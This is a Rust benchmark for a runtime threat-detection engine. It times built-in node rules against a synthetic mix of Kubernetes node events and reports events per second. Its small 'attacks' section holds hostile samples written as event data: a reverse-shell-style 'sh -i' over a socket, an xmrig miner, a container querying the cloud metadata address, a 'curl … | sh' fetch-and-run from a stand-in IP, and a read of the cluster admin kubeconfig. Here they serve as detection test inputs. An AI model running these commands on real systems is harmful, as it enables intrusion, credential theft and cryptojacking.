//! Rule evaluation throughput on node events: all built-in node rules over a realistic mix of
//! what a busy node reports (opens, connects, DNS, execs and exits of applications, probes and
//! node agents, with a sprinkle of attacks), single thread. Prints events/s for the engine alone
//! and for the whole detector (engine + aggregation). Target: ≥ 2,000,000 events/s per core.
//!
//! `cargo bench -p palisade-detect --bench node_engine` (set `NODE_BENCH_EVENTS` to change the
//! number of events judged per run). `tests/node_prefilter.rs` includes this file to reuse the
//! generated mix.

use palisade_detect::builtin::node_rules;
use palisade_detect::engine::{Engine, EngineConfig, Match};
use palisade_detect::node::NodeEvent;
use palisade_detect::pipeline::{DetectorConfig, NodeDetector};
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::Instant;

const CID: &str = "4f2c8e1d9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d";

fn base(kind: &str, exe: &str, args: &[&str], container: bool) -> Value {
    let mut doc = json!({
        "id": "", "time_nanos": 0, "event.type": kind, "node": "node-a", "cluster": "prod",
        "host": !container,
        "process": {"pid": 4242, "tid": 4242, "ppid": 4200, "comm": exe.rsplit('/').next(),
            "exe": exe, "args": args, "cmdline": args.join(" "), "stdio": ["pipe", "pipe", "pipe"],
            "capabilities": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_KILL", "CAP_NET_BIND_SERVICE"],
            "parent": {"pid": 4200, "comm": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2",
                "cmdline": "containerd-shim-runc-v2 -namespace k8s.io"},
            "ancestors": ["systemd"]},
    });
    if container {
        doc["container"] = json!({"id": CID, "runtime": "containerd", "name": "web",
            "image": "registry.example.com/shop/web:1.4.2", "pod_name": "web-7d9f8c6b5-x2k4q",
            "pod_namespace": "shop", "privileged": false});
    }
    doc
}

fn with(mut doc: Value, key: &str, part: Value) -> Value {
    doc[key] = part;
    doc
}

fn open(exe: &str, path: &str, container: bool) -> Value {
    with(
        base("open", exe, &[exe], container),
        "file",
        json!({"path": path, "access": "read"}),
    )
}

fn connect(exe: &str, ip: &str, port: u16, container: bool) -> Value {
    with(
        base("connect", exe, &[exe], container),
        "net",
        json!({"family": "ipv4", "protocol": "tcp", "src_ip": "10.244.1.17", "src_port": 40000,
               "dst_ip": ip, "dst_port": port, "direction": "outbound"}),
    )
}

fn dns(exe: &str, q: &str) -> Value {
    with(
        base("dns", exe, &[exe], true),
        "dns",
        json!({"query": q, "qtype": "A", "server": "10.96.0.10"}),
    )
}

/// (weight, event): a node's steady state. Weights are per 1000 events.
fn mix() -> Vec<(u32, Value)> {
    vec![
        // opens of sensitive prefixes that survive the kernel filter: mostly agents and apps
        (
            90,
            open(
                "/usr/bin/kubelet",
                "/var/lib/kubelet/pki/kubelet-client-current.pem",
                false,
            ),
        ),
        (
            60,
            open(
                "/manager",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                true,
            ),
        ),
        (40, open("/usr/sbin/sshd", "/etc/shadow", false)),
        (40, open("/bin/bash", "/root/.bash_history", true)),
        (30, open("/usr/sbin/nginx", "/etc/passwd", true)),
        (
            20,
            open(
                "/usr/local/bin/kube-proxy",
                "/var/lib/kube-proxy/kubeconfig.conf",
                true,
            ),
        ),
        // connections
        (
            80,
            connect("/usr/local/bin/gunicorn", "10.96.12.40", 5432, true),
        ),
        (60, connect("/usr/local/bin/node", "52.1.2.3", 443, true)),
        (40, connect("/manager", "10.96.0.1", 443, true)),
        (40, connect("/usr/bin/curl", "127.0.0.1", 8080, true)),
        (
            20,
            connect("/usr/bin/kubelet", "169.254.169.254", 80, false),
        ),
        (
            50,
            with(
                base("accept", "/usr/sbin/nginx", &["nginx"], true),
                "net",
                json!({"family": "ipv4", "protocol": "tcp", "dst_ip": "10.244.2.9", "dst_port": 51234, "direction": "inbound"}),
            ),
        ),
        // DNS
        (
            70,
            dns("/usr/local/bin/gunicorn", "db.shop.svc.cluster.local"),
        ),
        (50, dns("/usr/local/bin/node", "api.stripe.com")),
        (20, dns("/usr/bin/curl", "registry-1.docker.io")),
        // execs and exits: probes, kubectl exec sessions, agents
        (
            50,
            base(
                "exec",
                "/bin/sh",
                &["sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz"],
                true,
            ),
        ),
        (
            40,
            base(
                "exec",
                "/usr/bin/curl",
                &["curl", "-fsS", "http://127.0.0.1:8080/healthz"],
                true,
            ),
        ),
        (
            30,
            base(
                "exec",
                "/bin/grpc_health_probe",
                &["grpc_health_probe", "-addr=:9090"],
                true,
            ),
        ),
        (
            20,
            base(
                "exec",
                "/usr/sbin/iptables",
                &["iptables", "-w", "-t", "nat", "-S", "KUBE-SERVICES"],
                false,
            ),
        ),
        (
            20,
            base(
                "exec",
                "/usr/bin/runc",
                &[
                    "runc",
                    "--root",
                    "/run/containerd/runc/k8s.io",
                    "state",
                    CID,
                ],
                false,
            ),
        ),
        (
            10,
            with(
                base("exec", "/bin/sh", &["sh"], true),
                "process",
                json!({"exe": "/bin/sh", "comm": "sh", "args": ["sh"], "cmdline": "sh", "stdio": ["tty", "tty", "tty"],
                   "parent": {"comm": "runc", "exe": "/usr/bin/runc"}}),
            ),
        ),
        (10, base("exec", "/bin/ls", &["ls", "-la", "/app"], true)),
        (
            10,
            base(
                "exec",
                "/usr/bin/python3",
                &["python3", "/app/jobs/cleanup.py", "--older-than", "7d"],
                true,
            ),
        ),
        (120, base("exit", "/bin/sh", &["sh"], true)),
        (
            5,
            with(
                base("memfd", "/opt/java/openjdk/bin/java", &["java"], true),
                "memfd",
                json!({"name": "jit"}),
            ),
        ),
        (
            5,
            with(
                base("unlink", "/usr/sbin/logrotate", &["logrotate"], false),
                "file",
                json!({"path": "/var/log/syslog.7.gz", "access": "delete"}),
            ),
        ),
        (
            4,
            with(
                base("namespace", "/usr/bin/runc", &["runc", "init"], true),
                "namespace",
                json!({"syscall": "unshare", "types": ["mnt", "pid", "net"]}),
            ),
        ),
        (
            4,
            with(
                base("mount", "/usr/bin/runc", &["runc", "init"], true),
                "mount",
                json!({"source": "proc", "target": "/proc", "fstype": "proc"}),
            ),
        ),
        (
            2,
            with(
                base("chmod", "/bin/chmod", &["chmod", "+x", "/app/run.sh"], true),
                "file",
                json!({"path": "/app/run.sh", "mode": 493, "access": "chmod"}),
            ),
        ),
        // attacks: a few per thousand
        (
            2,
            with(
                base("exec", "/bin/sh", &["sh", "-i"], true),
                "process",
                json!({"exe": "/bin/sh", "comm": "sh", "args": ["sh", "-i"], "cmdline": "sh -i", "stdio": ["socket_inet", "socket_inet", "socket_inet"]}),
            ),
        ),
        (
            2,
            base(
                "exec",
                "/tmp/xmrig",
                &["xmrig", "-o", "stratum+tcp://pool.example:3333"],
                true,
            ),
        ),
        (2, connect("/usr/bin/curl", "169.254.169.254", 80, true)),
        (
            2,
            base(
                "exec",
                "/bin/sh",
                &["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh"],
                true,
            ),
        ),
        (2, open("/bin/cat", "/etc/kubernetes/admin.conf", false)),
    ]
}

/// Share of events, in percent, whose scanned text is a value never seen before (a unique
/// argument, path component or DNS label); the rest repeat the mix's values, as probes, agents
/// and applications do on a node. `NODE_BENCH_UNIQUE` changes it (100: every value unique).
fn unique_percent() -> u64 {
    std::env::var("NODE_BENCH_UNIQUE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(25)
        .min(100)
}

pub fn events(n: usize) -> Vec<NodeEvent> {
    events_with_unique(n, 0)
}

/// `n` events of the mix, `unique` percent of them with a value never seen before.
pub fn events_with_unique(n: usize, unique: u64) -> Vec<NodeEvent> {
    let mix: Vec<(u32, NodeEvent)> = mix()
        .into_iter()
        .map(|(w, v)| (w, serde_json::from_value(v).expect("bench event")))
        .collect();
    let total: u32 = mix.iter().map(|(w, _)| w).sum();
    // A deterministic interleaving by weight (a small LCG picks each next event).
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        let mut pick = ((state >> 33) % u64::from(total)) as u32;
        let mut chosen = &mix[0].1;
        for (w, e) in &mix {
            if pick < *w {
                chosen = e;
                break;
            }
            pick -= w;
        }
        let mut e = chosen.clone();
        e.id = format!("node-a-1f2e-{i}");
        e.time_nanos = 1_780_000_000_000_000_000 + i as i64 * 20_000;
        if (state >> 13) % 100 < unique {
            make_unique(&mut e, i);
        }
        out.push(e);
    }
    out
}

/// Gives the event's scanned text a value not seen before, the way real ones vary: a request
/// id among the arguments, a pid or projected-volume directory in a path, a unique DNS label.
fn make_unique(e: &mut NodeEvent, i: usize) {
    if let Some(file) = e.file.as_mut() {
        let (dir, name) = file.path.rsplit_once('/').unwrap_or(("", &file.path));
        file.path = format!("{dir}/..2026_12_06_{i:08}/{name}");
    } else if let Some(dns) = e.dns.as_mut() {
        dns.query = format!("r{i:x}-{}", dns.query);
    } else if e.kind.as_str() == "exec" {
        let arg = format!("--request-id={i:x}");
        e.process.cmdline = format!("{} {arg}", e.process.cmdline);
        e.process.args.push(arg);
    }
}

/// The engine's configuration: the default, or without the prefilter's memo of recent values
/// when `NODE_BENCH_MEMO=0` (to measure what it saves).
fn config() -> EngineConfig {
    EngineConfig {
        prefilter_memo: std::env::var("NODE_BENCH_MEMO").map_or(true, |v| v != "0"),
        ..EngineConfig::default()
    }
}

/// CPU time this thread has run, from /proc/thread-self/schedstat (nanoseconds): on a shared,
/// loaded machine wall time measures the neighbours; CPU time measures the work per core.
fn thread_cpu_nanos() -> Option<u64> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split_whitespace().next()?.parse().ok()
}

/// Runs `pass` five times; returns the best (wall seconds, CPU seconds) of the passes.
fn measure(mut pass: impl FnMut()) -> (f64, f64) {
    let (mut wall, mut cpu) = (f64::MAX, f64::MAX);
    for _ in 0..5 {
        let c0 = thread_cpu_nanos();
        let start = Instant::now();
        pass();
        let w = start.elapsed().as_secs_f64();
        let c = match (c0, thread_cpu_nanos()) {
            // schedstat advances in ticks on some kernels: a pass shorter than one reads 0.
            (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
            _ => w,
        };
        wall = wall.min(w);
        cpu = cpu.min(c);
    }
    (wall, cpu)
}

fn main() {
    let n: usize = std::env::var("NODE_BENCH_EVENTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let rules = Arc::new(node_rules().expect("built-in node rules"));
    let unique = unique_percent();
    let events = events_with_unique(n, unique);
    println!(
        "node_engine: {} rules, {} events in the mix, {unique} % with a value not seen before",
        rules.rules().len(),
        events.len()
    );

    // Engine only: index lookup, conditions, exceptions, stateful rules, match building.
    let mut matched = 0;
    let (wall, cpu) = measure(|| {
        let mut engine = Engine::new(Arc::clone(&rules), config());
        let mut matches: Vec<Match> = Vec::new();
        for e in &events {
            engine.evaluate(e, &mut matches);
            matched += matches.len();
            matches.clear();
        }
    });
    println!(
        "node_engine/evaluate: {:.0} events/s per core (CPU time, {:.0} ns/event); {:.0} events/s wall; {} matches per pass",
        n as f64 / cpu,
        cpu * 1e9 / n as f64,
        n as f64 / wall,
        matched / 5
    );

    // As the sensor judges them: each event just built (decoded and enriched into fresh memory)
    // and judged at once by a long-lived engine. Above, a million events built in advance are
    // read from memory at judging time, which the sensor never does. Each event is cloned and
    // judged; a pass that only clones is subtracted.
    let mut engine = Engine::new(Arc::clone(&rules), config());
    let mut matches: Vec<Match> = Vec::new();
    let (_, clone_cpu) = measure(|| {
        for e in &events {
            let fresh = e.clone();
            std::hint::black_box(&fresh);
        }
    });
    let (_, judge_cpu) = measure(|| {
        for e in &events {
            let fresh = e.clone();
            engine.evaluate(std::hint::black_box(&fresh), &mut matches);
            matches.clear();
        }
    });
    let fresh = (judge_cpu - clone_cpu).max(f64::MIN_POSITIVE);
    println!(
        "node_engine/evaluate-fresh: {:.0} events/s per core (CPU time, {:.0} ns/event, each event judged just after it is built)",
        n as f64 / fresh,
        fresh * 1e9 / n as f64,
    );

    // Where the time goes: rule evaluations per event (the index keeps this small).
    let mut engine = Engine::new(Arc::clone(&rules), config());
    let mut matches: Vec<Match> = Vec::new();
    for e in events.iter().take(100_000) {
        engine.evaluate(e, &mut matches);
        matches.clear();
    }
    let stats = engine.stats();
    let mut per_rule: Vec<_> = stats
        .rules
        .iter()
        .filter(|r| r.evaluations > r.prefiltered)
        .collect();
    per_rule.sort_by_key(|r| std::cmp::Reverse(r.evaluations - r.prefiltered));
    println!(
        "node_engine: literal prefilter memo: {:.1} % of scanned values found",
        100.0 * stats.prefilter_memo_hits as f64
            / (stats.prefilter_memo_hits + stats.prefilter_memo_misses).max(1) as f64
    );
    println!(
        "node_engine: {:.2} candidate rules per event, {:.2} skipped by the literal prefilter, {:.2} conditions evaluated; most evaluated: {}",
        stats.evaluations as f64 / stats.events.max(1) as f64,
        stats.prefiltered as f64 / stats.events.max(1) as f64,
        (stats.evaluations - stats.prefiltered) as f64 / stats.events.max(1) as f64,
        per_rule
            .iter()
            .take(
                std::env::var("NODE_BENCH_TOP")
                    .ok()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(8)
            )
            .map(|r| format!(
                "{} {:.2}",
                r.id,
                (r.evaluations - r.prefiltered) as f64 / stats.events.max(1) as f64
            ))
            .collect::<Vec<_>>()
            .join(", ")
    );

    // The detector: engine + aggregation + alert counters, as the sensor runs it.
    let mut alerts = 0;
    let (wall, cpu) = measure(|| {
        let detector_config = DetectorConfig {
            engine: config(),
            ..DetectorConfig::default()
        };
        let mut detector = NodeDetector::new(Arc::clone(&rules), detector_config);
        let mut out = Vec::new();
        for e in &events {
            detector.process_event(e, &mut out);
            alerts += out.len();
            out.clear();
        }
        detector.finish(&mut out);
        alerts += out.len();
    });
    println!(
        "node_engine/detector: {:.0} events/s per core (CPU time, {:.0} ns/event); {:.0} events/s wall; {} alerts per pass",
        n as f64 / cpu,
        cpu * 1e9 / n as f64,
        n as f64 / wall,
        alerts / 5
    );
    if let Some(bytes) = palisade_testkit::peak_rss_bytes() {
        println!(
            "node_engine: peak RSS {:.1} MB (the {n} events held in memory included)",
            bytes as f64 / 1048576.0
        );
    }
}
